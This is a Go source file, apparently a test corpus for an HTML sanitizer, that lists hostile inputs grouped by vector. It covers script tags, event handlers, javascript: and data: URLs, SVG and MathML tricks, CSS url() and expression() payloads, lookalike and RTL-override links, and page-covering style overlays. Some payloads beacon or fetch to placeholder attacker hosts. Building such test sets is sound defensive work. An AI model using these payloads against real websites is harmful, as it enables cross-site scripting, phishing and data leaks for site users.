package hostile

import "strings"

func scripts() []string {
	return []string{
		`<script>alert(1)</script>`,
		`<script src="URL.js"></script>`,
		`<SCRIPT SRC=URL.js></SCRIPT>`,
		`<script/src=URL.js></script>`,
		`<script type=module src="URL.mjs"></script>`,
		`<script type="text/javascript;version=1.8">alert(1)</script>`,
		`<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<<script>alert(1)//<</script>`,
		`<script>alert(1)`,
		`<script><!--
alert(1)
--></script>`,
		`</title></style></textarea></noscript></script><script>alert(1)</script>`,
		`<noscript><p title="</noscript><script>alert(1)</script>"></noscript>`,
		`<template><script>alert(1)</script></template><template shadowrootmode=open><script>alert(1)</script><img src=x onerror=alert(1)></template>`,
		`<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml><script language=vbscript>MsgBox 1</script>`,
		`<div><div><script>alert(1)</script></div></div><!--[if gte mso 9]><script>alert(1)</script><![endif]-->`,
		`<![CDATA[<script>alert(1)</script>]]>`,
		`<?xml version="1.0"?><?php echo 1 ?><script>alert(1)</script>`,
		`<object><param name=x><script>alert(1)</script></object>`,
		`<applet code=x archive="URL.jar"><script>alert(1)</script></applet>`,
		`<script>document.write('<img src="URL.png">');new Image().src='URL';fetch('URL');navigator.sendBeacon('URL')</script>`,
		`<script>top.location='URL';parent.postMessage('x','*');window.open('URL')</script>`,
		`<script>new WebSocket('ws://hostile.invalid/');new EventSource('URL');new RTCPeerConnection({iceServers:[{urls:'stun:hostile.invalid'}]})</script>`,
	}
}

func events() []string {
	all := []string{
		`<img src=x onerror=alert(1)>`,
		`<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" onload=alert(1)>`,
		`<img/src/onerror=alert(1)>`,
		`<img src=x oneRRor=alert&#40;1&#41;>`,
		"<img src=x onerror\x0b=alert(1)>",
		"<img\x0csrc=x\x0conerror=alert(1)>",
		"<img src=`x`onerror=alert(1)>",
		`<img src='x'onerror='alert(1)'alt="<img src=x onerror=alert(1)>">`,
		`<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
		`<body onload=alert(1)>`,
		`<body onpageshow=alert(1) onhashchange=alert(1) onresize=alert(1) onscroll=alert(1)>`,
		`<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>`,
		`<video><source onerror=alert(1)></video><video onloadstart=alert(1) src=x>`,
		`<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>`,
		`<a autofocus tabindex=1 onfocus=alert(1) href=#x>x</a><div contenteditable autofocus onfocus=alert(1)>y</div>`,
		`<details open ontoggle=alert(1)><summary>x</summary></details>`,
		`<marquee onstart=alert(1) loop=1 width=0>x</marquee><marquee onfinish=alert(1)>`,
		`<div style="animation:x 1s" onanimationstart=alert(1)>x</div><style>@keyframes x{}</style>`,
		`<div style="transition:color 1s" ontransitionend=alert(1) ontransitionrun=alert(1)>x</div>`,
		`<p onmouseover=alert(1) onclick=alert(1) onpointerrawupdate=alert(1)>move here</p>`,
		`<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>`,
		`<div onfocusin=alert(1) oncontentvisibilityautostatechange=alert(1) style="content-visibility:auto">x</div>`,
		`<link rel=stylesheet href=URL.css onload=alert(1) onerror=alert(1)>`,
		`<style onload=alert(1)>p{}</style>`,
		`<iframe onload=alert(1)></iframe>`,
		`<isindex type=image src=x onerror=alert(1)><keygen autofocus onfocus=alert(1)>`,
		`<bgsound src=x onpropertychange=alert(1)><xss onpointerenter=alert(1)>x</xss>`,
		`<img src=x:x onerror=alert(1)><image src=x onerror=alert(1)><image href=x onerror=alert(1)>`,
	}
	return all
}

func urls() []string {
	links := []string{
		"javascript:alert(1)",
		"JaVaScRiPt:alert(1)",
		" javascript:alert(1)",
		"\x01javascript:alert(1)",
		"java\tscript:alert(1)",
		"java\nscript:alert(1)",
		"java&#10;script:alert(1)",
		"java&Tab;script&colon;alert(1)",
		"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
		"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
		"javascript&#0000058;alert(1)",
		"javascript://hostile.invalid/%0aalert(1)",
		"javascript:http://x;alert(1)",
		"vbscript:msgbox(1)",
		"livescript:alert(1)",
		"data:text/html,<script>alert(1)</script>",
		"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
		"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
		"blob:http://hostile.invalid/1",
		"file:///etc/passwd",
		"filesystem:http://hostile.invalid/",
		"view-source:javascript:alert(1)",
		"//hostile.invalid/protocol-relative",
		"/m/me/act?trash=all",
		"http:javascript:alert(1)",
		"https://user:pass@hostile.invalid/",
		"http://bank.example\\@hostile.invalid/",
		"http://hostile.invalid\u2025bank.example/",
		"http://b\u0430nk.example/",
		"ms-msdt:/id x", "search-ms:query=x", "tel:+1900", "intent://x#Intent;end",
		"x\" onmouseover=\"alert(1)",
		"http://hostile.invalid/\u202egpj.exe",
		"mailto:a@b.test?subject=x%0d%0aBcc:c@d.test\" onclick=\"alert(1)",
		"#\" onclick=\"alert(1)", "\u00a0javascript:alert(1)", "\u2028javascript:alert(1)",
	}
	var all []string
	for _, l := range links {
		all = append(all, `<a href="`+l+`">https://www.bank.example/</a>`)
	}
	return append(all,
		`<a href=javascript:alert(1)>x</a><area href=javascript:alert(1)><map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m src=x>`,
		`<base href="javascript:/a/"><a href="//%0aalert(1)//">x</a>`,
		`<base href="URL/"><a href="x">x</a><img src="x.png">`,
		`<a href="URL" ping="URL/ping" target=_top>x</a><a href="URL" target=_parent download>y</a>`,
		`<a href="URL" rel="opener" target=victim>x</a>`,
		`<img src="javascript:alert(1)"><img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">`,
		`<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>`,
		`<meta http-equiv=refresh content="0;url=javascript:alert(1)"><meta http-equiv=refresh content="0;url=URL">`,
		`<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>"><meta http-equiv=set-cookie content="a=b">`,
		`<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><script>alert(1)</script>`,
		`<meta http-equiv=content-type content="text/html; charset=utf-7"><meta name=referrer content=unsafe-url><img src="URL.png">`,
		`<q cite="javascript:alert(1)">x</q><blockquote cite="URL">y</blockquote><ins cite="javascript:alert(1)">z</ins>`,
		`<a href="http://hostile.invalid/"><a href="javascript:alert(1)">nested</a></a>`,
	)
}

func svg() []string {
	return []string{
		`<svg onload=alert(1)>`,
		`<svg><script>alert(1)</script></svg>`,
		`<svg><script href="URL.js"></script><script xlink:href="URL.js"/></svg>`,
		`<svg><script>&#97;lert(1)</script></svg>`,
		`<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>`,
		`<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s><set onbegin=alert(1) attributeName=y to=1></svg>`,
		`<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"/></svg>`,
		`<svg><use href="URL.svg#x"/><image href="URL.png" xlink:href="URL.png"/><feImage href="URL.png"/></svg>`,
		`<svg><foreignObject><body onload=alert(1)><iframe src=javascript:alert(1)></iframe></foreignObject></svg>`,
		`<svg><style>@import url("URL.css");*{background:url(URL.png)}</style><rect width=9 height=9 fill="url(URL.svg#a)" filter="url(URL.svg#b)"/></svg>`,
		`<svg><title><script>alert(1)</script></title><desc><img src=x onerror=alert(1)></desc></svg>`,
		`<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`,
		`<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>`,
		`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1" width=9999 height=9999 style="position:fixed;top:0;left:0"><discard onbegin=alert(1)></svg>`,
		`<svg><p><style><g title="</style><img src=x onerror=alert(1)>"></g></style></svg>`,
		`<svg><mpath xlink:href="URL"/><cursor xlink:href="URL.cur"/><tref xlink:href="URL"/><font-face-uri xlink:href="URL"/></svg>`,
		`<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=">`,
		`<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>" type="image/svg+xml">`,
		`<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"></object>`,
	}
}

func mathml() []string {
	return []string{
		`<math href="javascript:alert(1)">x</math>`,
		`<math><maction actiontype="statusline#URL" xlink:href="javascript:alert(1)">x</maction></math>`,
		`<math><mtext><script>alert(1)</script></mtext></math>`,
		`<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>`,
		`<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>`,
		`<math><semantics><annotation-xml encoding="application/xhtml+xml"><iframe src="javascript:alert(1)"></iframe></annotation-xml></semantics></math>`,
		`<math><mglyph src="URL.png" alt=x></mglyph><malignmark><img src=x onerror=alert(1)></math>`,
	}
}

func styles() []string {
	var all []string
	for _, s := range declarations() {
		all = append(all, `<p style="`+strings.ReplaceAll(s, `"`, "&quot;")+`">styled</p>`)
	}
	for _, s := range sheets() {
		all = append(all, "<style>"+s+"</style><p>styled</p>")
	}
	return append(all,
		`<style media="x){}@import 'URL.css';@media all">p{color:red}</style>`,
		`<style type="text/less">@import "URL.css";</style><style><style></style><img src=x onerror=alert(1)></style>`,
		`<p class="x&quot; onclick=&quot;alert(1)" id="x&quot;><script>alert(1)</script>">x</p>`,
		`<p class="rhost rblocked s1 rtext" id="r">looks like ours</p>`,
		`<font color="red;background:url(URL.png)" face="x;background:url(URL.png)" size="1;x">x</font>`,
		`<body bgcolor="red}*{background:url(URL.png)" text="expression(alert(1))" link="javascript:alert(1)" background="URL.png">`,
		`<table width="1;background:url(URL.png)" bgcolor="&quot;><script>alert(1)</script>" background="URL.png" bordercolor="x&lt;"><td height="9&quot; onclick=&quot;alert(1)">x</table>`,
	)
}

// declarations are for style attributes.
func declarations() []string {
	return []string{
		`background:url(URL.png)`,
		`background:url("URL.png")`,
		`background:u\72l(URL.png)`,
		`background:\75\72\6c(URL.png)`,
		`background:\000075\000072\00006c\28 URL.png)`,
		`background:url/**/(URL.png)`,
		`background:URL(URL.png) #fff`,
		`background-image:image-set("URL.png" 1x, "URL.png" 2x)`,
		`background-image:-webkit-image-set(url(URL.png) 1x)`,
		`background-image:cross-fade(url(URL.png),url(URL.png),50%)`,
		`background-image:linear-gradient(red,blue),url(URL.png)`,
		`background:paint(x) src("URL.png") image("URL.png") element(#x)`,
		`list-style:url(URL.png);list-style-image:url(URL.png)`,
		`cursor:url(URL.cur),auto`,
		`content:url(URL.png)`,
		`border-image:url(URL.png) 1;border-image-source:url(URL.png);-webkit-border-image:url(URL.png) 1`,
		`mask:url(URL.svg#m);-webkit-mask-image:url(URL.png);clip-path:url(URL.svg#c);filter:url(URL.svg#f);shape-outside:url(URL.png)`,
		`behavior:url(URL.htc);-moz-binding:url(URL.xml#x);-ms-behavior:url(URL.htc)`,
		`width:expression(alert(1));xss:expr/**/ession(alert(1))`,
		`width:exp\72 ession(alert(1))`,
		`background:url(javascript:alert(1))`,
		`background:url(data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>)`,
		`position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:white`,
		`position:absolute;top:-100px;left:-100px;transform:scale(100)`,
		`margin:-9999px;margin-top:-500px`,
		`--x:url(URL.png);background:var(--x)`,
		`background:var(--y,url(URL.png))`,
		`color:red;}body{background:url(URL.png)}x{`,
		`color:red</style><script>alert(1)</script>`,
		`color:red&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;`,
		`font-family:'</style><img src=x onerror=alert(1)>'`,
		`font-family:"x\22;background:url(URL.png)"`,
		"color:red\n;backgrou\\\nnd:url(URL.png)",
		`src:local(x),url(URL.woff);font:1px url(URL.woff)`,
		`animation:x 1s infinite;transition:all 99s;will-change:transform;offset-path:url(URL)`,
		`text-decoration:url(URL);quotes:"<" ">";counter-reset:x 1;-webkit-user-modify:read-write`,
	}
}

func sheets() []string {
	return []string{
		`@import "URL.css";`,
		`@import url(URL.css);`,
		`@\69mport "URL.css";`,
		`@import/**/url(URL.css) screen;`,
		`@charset "utf-7";@import 'URL.css';`,
		`@namespace x url(URL);@font-face{font-family:x;src:url(URL.woff)}p{font-family:x}`,
		`p{background:url(URL.png)}`,
		`p{background:url(URL.png`,
		`@media screen{p{background:url(URL.png)}}`,
		`@media screen{@import "URL.css";}`,
		`@supports(color:red){p{background:url(URL.png)}}`,
		`@layer x{p{background:url(URL.png)}}@container (width>1px){p{background:url(URL.png)}}@scope(p){:scope{background:url(URL.png)}}`,
		`@document url(URL){p{color:red}}@page{background:url(URL.png)}@counter-style x{symbols:url(URL.png)}`,
		`@property --x{syntax:"<url>";inherits:true;initial-value:url(URL.png)}`,
		`p{color:red;&:hover{background:url(URL.png)}}`,
		`input[value^=a]{background:url(URL.png)}a[href*="@"]{background:url(URL.png)}`,
		`p:not(url(URL.png)),p{color:red}p:has(a){background:url(URL.png)}`,
		`p{}<!-- @import "URL.css"; -->`,
		`p{content:"\3c/style\3e\3cscript\3e alert(1)"}`,
		`</style><script>alert(1)</script><style>`,
		`<!--</style><img src=x onerror=alert(1)>-->`,
		`*{display:none!important}.rhost,.rblocked,#r{display:none!important}html body #r .rhost{opacity:0!important}`,
		`body{position:fixed;inset:0}a::after{content:"https://www.bank.example"}`,
		`p::first-line{background:url(URL.png)}p::before{content:url(URL.png)}p::selection{background:url(URL.png)}::cue{background:url(URL.png)}`,
		`@keyframes x{from{background:url(URL.png)}}p{animation:x 1s}`,
		"p{background:u\\rl(URL.png)}p{background:ur\\\nl(URL.png)}",
		`p{background:url(URL.png)/*`,
		`/*</style><img src=x onerror=alert(1)>*/p{color:red}`,
		`@view-transition{navigation:auto}@starting-style{p{background:url(URL.png)}}@position-try --x{left:0}`,
		`p{color:red}}@import "URL.css";p{`,
	}
}
